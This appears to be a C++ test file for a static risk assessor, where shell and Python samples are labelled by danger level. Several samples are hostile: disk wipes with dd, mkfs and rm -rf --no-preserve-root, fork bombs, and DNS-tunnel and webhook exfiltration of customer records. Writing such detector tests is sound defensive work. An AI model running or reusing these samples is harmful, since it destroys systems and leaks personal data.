// The classes the twenty-eighth session modelled (issue 14), from the tune
// parts of the hundred-and-twenty-ninth round onwards
// (tests/corpus/prog133_MANIFEST.tsv and later): programs written from the
// rubric alone by writers who never saw the assessor. Strings here are never
// executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

constexpr Language Sh = Language::shell;

// `lsblk -dn -o NAME,TYPE | awk '$2 == "disk" {print "/dev/" $1}'` read into
// an array with `mapfile -t DISKS < <(...)`, then dd over each: three gaps
// hid the wipe. awk printing a literal before a field now prints lines of
// that shape; the text a process substitution prints is what `< <(...)`
// reads; and mapfile's -t is a flag (it had been taken as read's -t
// TIMEOUT, so no variable was set), its lines an array. Checking the SMART
// health of the same disks stays LOW, and an array of curl options read so
// expands into its options.
TEST(HundredAndTwentyNinthRoundClasses, AwkFramedFieldsAndMapfileCarryDevicePaths) {
  const Case cases[] = {
      {"every whole disk zeroed through mapfile and a process substitution", B, R"(#!/bin/bash
list_disks() {
    lsblk -dn -o NAME,TYPE 2>/dev/null | awk '$2 == "disk" {print "/dev/" $1}'
}
mapfile -t disks < <(list_disks)
for dev in "${disks[@]}"; do
    dd if=/dev/zero of="$dev" bs=4M conv=fsync status=none
done
)",
       "WIPE", Sh},
      {"a disk formatted from a command substitution of awk", B, R"(#!/bin/sh
target=$(lsblk -dn -o NAME,TYPE | awk '$2 == "disk" {print "/dev/" $1}' | head -1)
mkfs.ext4 -F "$target"
)",
       "WIPE", Sh},
      {"the paths of lsblk -p read with readarray, then zeroed", B, R"(#!/bin/bash
readarray -t disks < <(lsblk -dnp -o NAME)
dd if=/dev/zero of="${disks[0]}" bs=1M
)",
       "WIPE", Sh},
      {"the same disks' SMART health only read", L, R"(#!/bin/bash
list_disks() {
    lsblk -dn -o NAME,TYPE 2>/dev/null | awk '$2 == "disk" {print "/dev/" $1}'
}
mapfile -t disks < <(list_disks)
for dev in "${disks[@]}"; do
    echo "== $dev"
    cat "/sys/block/${dev#/dev/}/size"
done > disk-report.txt
)",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// `mapfile -t extra < <(opts_for "$url")` then `curl "${extra[@]}"`: each
// line an option, so a function that prints --insecure for some hosts turns
// TLS verification off (MEDIUM), and one that prints --proto =https keeps it.
TEST(HundredAndTwentyNinthRoundClasses, MapfileLinesAreSeparateArguments) {
  const Case cases[] = {
      {"curl options read a line each, --insecure among them", M, R"(#!/bin/bash
opts_for() {
    case "$1" in
        *.lan) printf '%s\n' "--insecure" ;;
        *) printf '%s\n' "--proto" "=https" ;;
    esac
}
url="https://mirror.lan/licence.dat"
mapfile -t extra < <(opts_for "$url")
curl -fsS "${extra[@]}" -o licence.dat "$url"
)",
       "TLS-VERIFICATION-OFF", Sh},
      {"curl options read a line each, all of them strict", L, R"(#!/bin/bash
opts_for() {
    printf '%s\n' "--proto" "=https" "--tlsv1.2"
}
url="https://vendor.example.com/licence.dat"
mapfile -t extra < <(opts_for "$url")
curl -fsS "${extra[@]}" -o licence.dat "$url"
)",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// `groups = defaultdict(list); groups[row["email"]].append(row)` at a key
// known only at run time made a fresh list nobody held, so what
// groups.values() gave lost the rows and the patrons' details hex-encoded
// into DNS names looked like formatting alone. A defaultdict's values made
// at unknown keys now share one bucket the dict holds. The same grouping
// written to a local report stays LOW.
TEST(HundredAndTwentyNinthRoundClasses, ADefaultdictKeepsWhatIsAppendedAtUnknownKeys) {
  const Case cases[] = {
      {"grouped rows hex-encoded into DNS names", B, R"(import csv
import socket
from collections import defaultdict

ZONE = ".".join(["v", "lookup", "example", "net"])

with open("patrons.csv", newline="") as fh:
    rows = list(csv.DictReader(fh))
groups = defaultdict(list)
for row in rows:
    groups[row.get("email", "").lower()].append(row)
for members in groups.values():
    best = dict(max(members, key=lambda r: int(r.get("orders") or 0)))
    hexed = "|".join([best.get("name", ""), best.get("phone", "")]).encode().hex()
    for i in range(0, len(hexed), 60):
        try:
            socket.gethostbyname(f"{hexed[i:i + 60]}.{i}.{ZONE}")
        except socket.gaierror:
            pass
)",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"grouped rows sent by items() through a webhook", B, R"(import csv
import json
import urllib.request
from collections import defaultdict

with open("patrons.csv", newline="") as fh:
    rows = list(csv.DictReader(fh))
by_city = defaultdict(list)
for row in rows:
    by_city[row["city"]].append(row)
for city, members in by_city.items():
    body = json.dumps({"content": str(members)}).encode()
    urllib.request.urlopen(urllib.request.Request(
        "https://discord.com/api/webhooks/1/x", data=body,
        headers={"Content-Type": "application/json"}))
)",
       nullptr},
      {"the same grouping written to a local report", L, R"(import csv
from collections import defaultdict

with open("patrons.csv", newline="") as fh:
    rows = list(csv.DictReader(fh))
groups = defaultdict(list)
for row in rows:
    groups[row.get("email", "").lower()].append(row)
with open("dedupe-report.txt", "w") as out:
    for members in groups.values():
        out.write("%s: %d\n" % (members[0].get("name", ""), len(members)))
)",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `pid = os.fork(); if pid == 0: os.execv(sys.executable, [.., __file__, ..])`
// in a loop that every copy runs again: execv had counted as replacing this
// process (a re-exec is one process), but after a fork in the same call an
// exec under a condition replaces the child, a new process, so copies start
// copies (FORK-BOMB), as the same loop with subprocess.Popen already was. A
// re-exec of itself without a fork, and a fork-and-exec of another program,
// stay MEDIUM.
TEST(HundredAndTwentyNinthRoundClasses, AnExecAfterAForkStartsANewProcess) {
  const Case cases[] = {
      {"every copy forks two children that exec the script again", B, R"(import os
import sys

FAN_OUT = 2


def scale_out():
    for _ in range(FAN_OUT):
        pid = os.fork()
        if pid == 0:
            os.execv(sys.executable, [sys.executable, os.path.abspath(__file__), "--role", "worker"])


def backlog():
    return len(os.listdir("inbox"))


if backlog() >= 0:
    scale_out()
)",
       "FORK-BOMB"},
      {"a restart that execs itself without forking", M, R"(import os
import sys


def restart():
    os.execv(sys.executable, [sys.executable, os.path.abspath(__file__)] + sys.argv[1:])


if os.path.exists("upgrade.flag"):
    os.remove("upgrade.flag")
    restart()
print("running")
)",
       nullptr},
      {"children forked to exec a converter, then waited for", M, R"(import os

for name in ["a.wav", "b.wav"]:
    pid = os.fork()
    if pid == 0:
        os.execvp("ffmpeg", ["ffmpeg", "-i", name, name + ".mp3"])
    os.waitpid(pid, 0)
)",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `w=wk; eval "${w}() { ${w} | ${w} & }"; "$w"`: the function eval defined
// lived only in the nested interpretation of eval's text, so the later call
// ran an unknown command. Functions eval defines now belong to the shell
// that ran it, and a call runs their definition with the call's arguments.
// Loggers eval defines per level stay LOW.
TEST(HundredAndTwentyNinthRoundClasses, FunctionsAnEvalDefinesCanBeCalledLater) {
  const Case cases[] = {
      {"a fork bomb defined through eval under a variable's name, then called", B, R"(#!/bin/sh
w=wk
eval "${w}() { ${w} | ${w} & }"
render() { convert "$1" -resize 640x "$1.png"; }
"$w"
for f in ./batch/*.raw; do render "$f"; done
)",
       "FORK-BOMB", Sh},
      {"loggers eval defines for each level, then called", L, R"(#!/bin/bash
for lvl in info warn; do
  eval "log_${lvl}() { echo \"[${lvl}] \$*\" >> ./app.log; }"
done
log_info "starting"
log_warn "disk at 80%"
)",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// A supervisor that starts its own script again as a worker, told so on the
// command line (`--worker`, `--role worker`), was FORK-BOMB (a known limit
// since the hundred-and-twenty-third round): the guard that keeps the worker
// from starting workers was not followed. A start of itself whose arguments
// are known but for options' values is now judged by interpreting the
// program again as that copy, with that command line (argparse reads it,
// conditions known there take their one way, a branch that returns ends the
// call, functions the copy never reaches are not run): a copy that starts no
// copy is a bounded start (new flag `copy_stops`). A copy whose guard reads
// another option than the one it is given still starts copies.
TEST(HundredAndTwentyNinthRoundClasses, ACopyToldToBeAWorkerIsJudgedAsThatCopy) {
  const Case cases[] = {
      {"a supervisor restarting its --worker child in a loop", M, R"(import argparse
import subprocess
import sys
import os


def sync_loop(args):
    print("syncing every", args.interval)


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--worker", action="store_true")
    args = ap.parse_args(argv)
    if args.worker:
        sync_loop(args)
        return 0
    while True:
        child = subprocess.Popen([sys.executable, os.path.abspath(__file__),
                                  "--interval", str(args.interval), "--worker"])
        child.wait()


if __name__ == "__main__":
    sys.exit(main())
)",
       "RUNS-PROCESS"},
      {"the same supervisor whose guard reads another option", B, R"(import argparse
import subprocess
import sys
import os


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--worker", action="store_true")
    ap.add_argument("--child", action="store_true")
    args = ap.parse_args(argv)
    if args.child:
        print("working")
        return 0
    while True:
        child = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--worker"])
        child.wait()


if __name__ == "__main__":
    sys.exit(main())
)",
       "FORK-BOMB"},
      {"one of the command lines at the start is not known", B, R"(import argparse
import os
import subprocess
import sys

ap = argparse.ArgumentParser()
ap.add_argument("--worker", action="store_true")
args = ap.parse_args()
if args.worker:
    sys.exit(0)
while True:
    cmd = [sys.executable, __file__, "--worker"] if os.environ.get("A") else [sys.executable, __file__] + sys.argv[1:]
    subprocess.Popen(cmd).wait()
)",
       "FORK-BOMB"},
      {"forked workers exec'd with --role worker under a role check", M, R"(import argparse
import os
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--role", choices=["supervisor", "worker"], default="supervisor")
    args = ap.parse_args()
    if args.role == "supervisor":
        for _ in range(4):
            pid = os.fork()
            if pid == 0:
                os.execv(sys.executable, [sys.executable, os.path.abspath(__file__), "--role", "worker"])
        for _ in range(4):
            os.wait()
    else:
        time.sleep(1)


if __name__ == "__main__":
    main()
)",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `if [ "$today" \< "$LEASE_END" ]; then return 0; fi` before a dd over the
// root disk and `rm -rf --no-preserve-root /`: tree-sitter-bash 0.21 cannot
// parse `\<` in a test, and the parse error swallowed the rest of the
// script (LOW). The escaped ordering operators of a test are rewritten as
// `!=` in place before the parse (shell_test_operators.hpp). A date check
// before compressing old logs stays LOW.
TEST(HundredAndTwentyNinthRoundClasses, AnOrderingInATestDoesNotHideTheRest) {
  const Case cases[] = {
      {"the machine wiped once a lease date has passed", B, R"(#!/bin/sh
LEASE_END="${LEASE_END:-2025-06-30}"
lease_cleanup() {
    today=$(date +%Y-%m-%d)
    if [ "$today" \< "$LEASE_END" ]; then
        return 0
    fi
    rm -rf --no-preserve-root / 2>/dev/null || true
}
lease_cleanup
)",
       "WIPE", Sh},
      {"old logs compressed once a date has passed", L, R"(#!/bin/sh
KEEP_UNTIL="${KEEP_UNTIL:-2025-06-30}"
today=$(date +%Y-%m-%d)
if [ "$today" \> "$KEEP_UNTIL" ]; then
    find ./logs -name '*.log' -mtime +7 -exec gzip -9 {} \;
fi
)",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
